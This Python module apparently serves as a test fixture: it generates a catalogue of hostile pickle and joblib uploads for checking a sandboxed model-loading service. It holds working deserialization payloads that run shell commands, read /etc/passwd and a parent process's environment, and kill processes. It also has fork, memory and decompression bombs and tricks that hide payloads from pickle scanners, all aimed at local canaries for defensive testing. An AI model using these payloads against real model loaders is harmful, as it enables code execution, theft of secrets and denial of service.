"""Hostile uploads, each a name and a function that writes the file; and what they aim at."""

import bz2
import gzip
import io
import lzma
import operator
import pickle
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np
from sklearn.linear_model import LinearRegression
from sklearn.tree import DecisionTreeRegressor


@dataclass(frozen=True, slots=True)
class Canaries:
    """What an attack aims at: a listener, a watched folder, the parent with its secret."""

    port: int
    watched: Path
    secret: str
    parent: int


Attack = Callable[[Canaries], bytes]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


class Call:
    """Calls a function with arguments when it is loaded."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.what = function, arguments

    def __reduce__(self) -> Any:
        return self.what


def code(source: str) -> bytes:
    """A pickle that runs Python source."""
    return pickle.dumps(Call(exec, source))


def fitted() -> LinearRegression:
    return LinearRegression().fit(np.arange(12.0).reshape(6, 2), np.arange(6.0))


@attack
def shell(c: Canaries) -> bytes:
    import os

    return pickle.dumps(Call(os.system, f"touch {c.watched}/owned"))


@attack
def subprocess_call(c: Canaries) -> bytes:
    import subprocess

    return pickle.dumps(Call(subprocess.check_output, ["touch", f"{c.watched}/owned"]))


@attack
def exec_writes(c: Canaries) -> bytes:
    return code(f"open('{c.watched}/owned', 'w').write('x')")


@attack
def exec_deletes(c: Canaries) -> bytes:
    return code(f"import os; os.remove('{c.watched}/precious')")


@attack
def exec_truncates(c: Canaries) -> bytes:
    return code(f"import os; os.truncate('{c.watched}/precious', 0)")


@attack
def exec_chmods(c: Canaries) -> bytes:
    return code(f"import os; os.chmod('{c.watched}/precious', 0)")


@attack
def exec_renames(c: Canaries) -> bytes:
    return code(f"import os; os.rename('{c.watched}/precious', '{c.watched}/gone')")


@attack
def reads_watched(c: Canaries) -> bytes:
    return code(f"print(open('{c.watched}/precious').read())")


@attack
def reads_passwords(c: Canaries) -> bytes:
    return code("print(open('/etc/passwd').read())")


@attack
def reads_parents_environment(c: Canaries) -> bytes:
    return code(f"print(open('/proc/{c.parent}/environ').read())")


@attack
def prints_own_environment(c: Canaries) -> bytes:
    return code("import os; print(dict(os.environ)); print(open('/proc/self/environ').read())")


@attack
def connects(c: Canaries) -> bytes:
    return code(f"import socket; socket.create_connection(('127.0.0.1', {c.port}), 1).send(b'x')")


@attack
def sends_udp(c: Canaries) -> bytes:
    return code(
        "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
        f".sendto(b'x', ('127.0.0.1', {c.port}))"
    )


@attack
def fork_bomb(c: Canaries) -> bytes:
    return code("import os\nwhile True: os.fork()")


@attack
def forks_and_leaves(c: Canaries) -> bytes:
    return code("import os, time\nif os.fork() == 0:\n    os.setsid(); time.sleep(600)")


@attack
def thread_bomb(c: Canaries) -> bytes:
    return code(
        "import threading, time\n"
        "while True: threading.Thread(target=time.sleep, args=(600,), daemon=True).start()"
    )


@attack
def kills_parent(c: Canaries) -> bytes:
    return code(f"import os; os.kill({c.parent}, 9)")


@attack
def kills_everyone(c: Canaries) -> bytes:
    return code("import os; os.kill(-1, 9)")


@attack
def kills_own_parent(c: Canaries) -> bytes:
    return code("import os; os.kill(os.getppid(), 9)")


@attack
def starves_parent(c: Canaries) -> bytes:
    return code(f"import resource; resource.prlimit({c.parent}, resource.RLIMIT_NOFILE, (1, 1))")


@attack
def slows_parent(c: Canaries) -> bytes:
    return code(f"import os; os.setpriority(os.PRIO_PROCESS, {c.parent}, 19)")


@attack
def traces_parent(c: Canaries) -> bytes:
    return code(
        "import ctypes; l = ctypes.CDLL(None, use_errno=True)\n"
        f"assert l.ptrace(16, {c.parent}, 0, 0) == 0, 'ptrace refused'"
    )


@attack
def shared_memory(c: Canaries) -> bytes:
    return code(
        "import ctypes; l = ctypes.CDLL(None, use_errno=True)\n"
        "assert l.shmget(4242, 4096, 0o1666) >= 0, 'shmget refused'"
    )


@attack
def new_namespace(c: Canaries) -> bytes:
    return code(
        "import ctypes; l = ctypes.CDLL(None, use_errno=True)\n"
        "assert l.unshare(0x10000000) == 0, 'unshare refused'"
    )


@attack
def allocates(c: Canaries) -> bytes:
    return pickle.dumps(Call(bytearray, 10**11))


@attack
def allocates_slowly(c: Canaries) -> bytes:
    return code("x = []\nwhile True: x.append(bytearray(1 << 20))")


@attack
def fills_the_disk(c: Canaries) -> bytes:
    return code(
        "import os, glob, sys\n"
        "import gc\n"
        "w = [o for o in gc.get_objects() if type(o) is dict and 'work' in o and 'role' in o]\n"
        "d = w[0]['work'] if w else '/tmp'\n"
        "i = 0\n"
        "while True:\n"
        "    open(f'{d}/{i}', 'wb').write(bytes(1 << 22)); i += 1"
    )


@attack
def sleeps(c: Canaries) -> bytes:
    return code("import time; time.sleep(600)")


@attack
def spins(c: Canaries) -> bytes:
    return code("while True: pass")


@attack
def ignores_signals(c: Canaries) -> bytes:
    return code(
        "import signal, time\n"
        "for s in range(1, 65):\n"
        "    try: signal.signal(s, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\n"
        "time.sleep(600)"
    )


@attack
def exits(c: Canaries) -> bytes:
    return code("import os; os._exit(0)")


@attack
def raises_system_exit(c: Canaries) -> bytes:
    return code("raise SystemExit(0)")


@attack
def segfaults(c: Canaries) -> bytes:
    return code("import ctypes; ctypes.string_at(0)")


@attack
def crashes_in_scikit_learn(c: Canaries) -> bytes:
    """Made of scikit-learn's classes only: a tree whose child lies far outside."""
    tree = DecisionTreeRegressor(max_depth=2).fit(np.arange(20.0).reshape(10, 2), np.arange(10.0))
    state = tree.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = nodes["right_child"][0] = 2_000_000_000
    state["nodes"] = nodes
    tree.tree_.__setstate__(state)
    return dumped(tree)


@attack
def turns_in_circles_in_scikit_learn(c: Canaries) -> bytes:
    tree = DecisionTreeRegressor(max_depth=2).fit(np.arange(20.0).reshape(10, 2), np.arange(10.0))
    state = tree.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = nodes["right_child"][0] = 0
    state["nodes"] = nodes
    tree.tree_.__setstate__(state)
    return dumped(tree)


@attack
def prints_without_end(c: Canaries) -> bytes:
    return code("while True: print('\\x1b[2J\\x07' * 1000)")


@attack
def forges_its_result(c: Canaries) -> bytes:
    return code(
        "import gc, os, json\n"
        "w = [o for o in gc.get_objects() if type(o) is dict and 'work' in o and 'role' in o]\n"
        "d = w[0]['work']\n"
        "open(d + '/draft', 'wb').write(b'\\x40' * 4096)\n"
        "forged = {'plan': True, 'estimator': 'x' * 10**6}\n"
        "open(d + '/result.json', 'w').write(json.dumps(forged))\n"
        "os._exit(0)"
    )


@attack
def forges_a_deep_result(c: Canaries) -> bytes:
    return code(
        "import gc, os\n"
        "w = [o for o in gc.get_objects() if type(o) is dict and 'work' in o and 'role' in o]\n"
        "open(w[0]['work'] + '/result.json', 'w').write('[' * 10**6)\n"
        "os._exit(0)"
    )


@attack
def links_its_result(c: Canaries) -> bytes:
    return code(
        "import gc, os\n"
        "w = [o for o in gc.get_objects() if type(o) is dict and 'work' in o and 'role' in o]\n"
        f"os.symlink('{c.watched}/precious', w[0]['work'] + '/result.json')\n"
        "os._exit(0)"
    )


@attack
def poisons_the_plan(c: Canaries) -> bytes:
    """A good estimator, loaded together with code that replaces the lowering by one that lies."""
    source = (
        "import numpy as np\n"
        "from controlplane.builder.lower import base\n"
        "def node(self, e):\n"
        "    name = self.tensor(np.full((3, 2), 2_000_000_000), 'i8')\n"
        "    return {'op': 'tree_regressor', 'left': name, 'n_in': -1}\n"
        "base.Draft.node = node\n"
    )
    return pickle.dumps(Call(operator.getitem, [fitted(), Call(exec, source)], 0))


@attack
def lies_about_its_plan(c: Canaries) -> bytes:
    """Replaces the child's own checks, and leaves a draft that only verify reads."""
    source = (
        "import json, numpy as np\n"
        "from controlplane.builder import child\n"
        "from runtime import frames\n"
        "def drafted(estimator):\n"
        "    bad = {'graph': {'op': 'forest_regressor'}, 'tensors': ['t0'], 'signature': {\n"
        "        'columns': [], 'outputs': [], 'named': False}}\n"
        "    frame = frames.encode(bad, [np.zeros(3)])\n"
        "    return len(frame).to_bytes(8, 'little') + frame * 2\n"
        "child.drafted = drafted\n"
    )
    return pickle.dumps(Call(operator.getitem, [fitted(), Call(exec, source)], 0))


@attack
def payload_after_the_first_array(c: Canaries) -> bytes:
    """Scanners of pickles stop at joblib's first array."""
    return dumped([np.arange(1000.0), Call(exec, f"open('{c.watched}/owned', 'w')")])


@attack
def compressed_payload(c: Canaries) -> bytes:
    return zlib.compress(code(f"open('{c.watched}/owned', 'w')"))


@attack
def memo_bomb(c: Canaries) -> bytes:
    """Nine bytes that make the unpickler's memo 4 GB long."""
    return b"\x80\x04]r\xff\xff\xff\x1f0."


@attack
def long_bytes(c: Canaries) -> bytes:
    return b"\x80\x05\x96" + struct.pack("<Q", 64 << 30) + b"."


@attack
def tuple_doubling(c: Canaries) -> bytes:
    return b"\x80\x04)" + b"2\x86" * 60 + b"."


@attack
def deep_recursion(c: Canaries) -> bytes:
    return b"\x80\x04" + b"]" * 200_000 + b"a" * 199_999 + b"."


@attack
def zlib_bomb(c: Canaries) -> bytes:
    return zlib.compress(bytes(256 << 20), 9)


@attack
def gzip_bomb(c: Canaries) -> bytes:
    return gzip.compress(bytes(256 << 20), 9)


@attack
def bz2_bomb(c: Canaries) -> bytes:
    return bz2.compress(bytes(128 << 20), 9)


@attack
def xz_bomb(c: Canaries) -> bytes:
    return lzma.compress(bytes(128 << 20), preset=0)


@attack
def huge_array_header(c: Canaries) -> bytes:
    array = dumped(np.arange(4.0))
    return array.replace(b"\x8c\x05shape\x94K\x04\x85", b"\x8c\x05shape\x94J\xff\xff\xff\x7f\x85")


@attack
def empty(c: Canaries) -> bytes:
    return b""


@attack
def random_bytes(c: Canaries) -> bytes:
    return np.random.default_rng(0).bytes(4096)


@attack
def a_zip(c: Canaries) -> bytes:
    file = io.BytesIO()
    np.savez(file, a=np.zeros(3))
    return file.getvalue()


@attack
def truncated(c: Canaries) -> bytes:
    whole = dumped(LinearRegression().fit(np.ones((50, 400)), np.arange(50.0)))
    return whole[: len(whole) // 2]


@attack
def truncated_compressed(c: Canaries) -> bytes:
    whole = zlib.compress(dumped(fitted()))
    return whole[:-20]


@attack
def foreign_version(c: Canaries) -> bytes:
    import sklearn

    version = sklearn.__version__.encode()
    return pickle.dumps(fitted()).replace(version, b"0." + version[2:])


@attack
def missing_class(c: Canaries) -> bytes:
    return b"\x80\x04\x8c\x0bnowhere.lib\x8c\x05Model\x93)\x81."


@attack
def not_an_estimator(c: Canaries) -> bytes:
    return pickle.dumps({"model": fitted(), "columns": ["a"]})


@attack
def not_fitted(c: Canaries) -> bytes:
    return pickle.dumps(LinearRegression())


@attack
def a_class(c: Canaries) -> bytes:
    return pickle.dumps(LinearRegression)


@attack
def forged_name(c: Canaries) -> bytes:
    return pickle.dumps(fitted()).replace(b"LinearRegression", b"LinearRegressiom")


def dumped(value: Any) -> bytes:
    file = io.BytesIO()
    joblib.dump(value, file)
    return file.getvalue()
